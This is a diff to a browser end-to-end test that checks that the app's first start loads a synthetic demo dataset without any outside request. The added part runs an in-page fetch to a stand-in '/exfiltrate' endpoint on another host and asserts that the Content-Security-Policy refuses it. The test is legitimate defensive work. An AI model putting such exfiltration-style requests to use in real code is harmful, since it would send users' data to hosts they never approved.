@@ -2,7 +2,7 @@
 // app's own origin only (no request leaves the page: docs/ARCHITECTURE.md §12).
 import { expect, test } from './fixtures.ts';
 
-test('first start loads the synthetic demo dataset without any outside request', async ({ importPage, browsePage, networkLog }) => {
+test('first start loads the synthetic demo dataset without any outside request', async ({ page, importPage, browsePage, networkLog }) => {
   await importPage.goto();
   const demo = importPage.datasets().filter({ hasText: /synthetic/i });
   await expect(demo).toHaveCount(1);
@@ -17,4 +17,20 @@ test('first start loads the synthetic demo dataset without any outside request',
   expect(networkLog.urls.some((u) => new URL(u).pathname.includes('/demo/'))).toBe(true);
   expect(networkLog.foreign()).toEqual([]);
   expect(networkLog.cspViolations).toEqual([]);
+
+  // The page's Content-Security-Policy (connect-src 'self') refuses a connection to another host
+  // before any request is made: what text in a dataset could try is stopped by the browser.
+  const requestsBefore = networkLog.urls.length;
+  const attempt = await page.evaluate(async () => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+    const outcome = await fetch('http://127.0.0.2:9/exfiltrate').then(
+      () => 'fetched',
+      () => 'refused',
+    );
+    await new Promise((r) => setTimeout(r, 50));
+    return { outcome, violations };
+  });
+  expect(attempt).toEqual({ outcome: 'refused', violations: ['connect-src'] });
+  expect(networkLog.urls.slice(requestsBefore)).toEqual([]);
 });
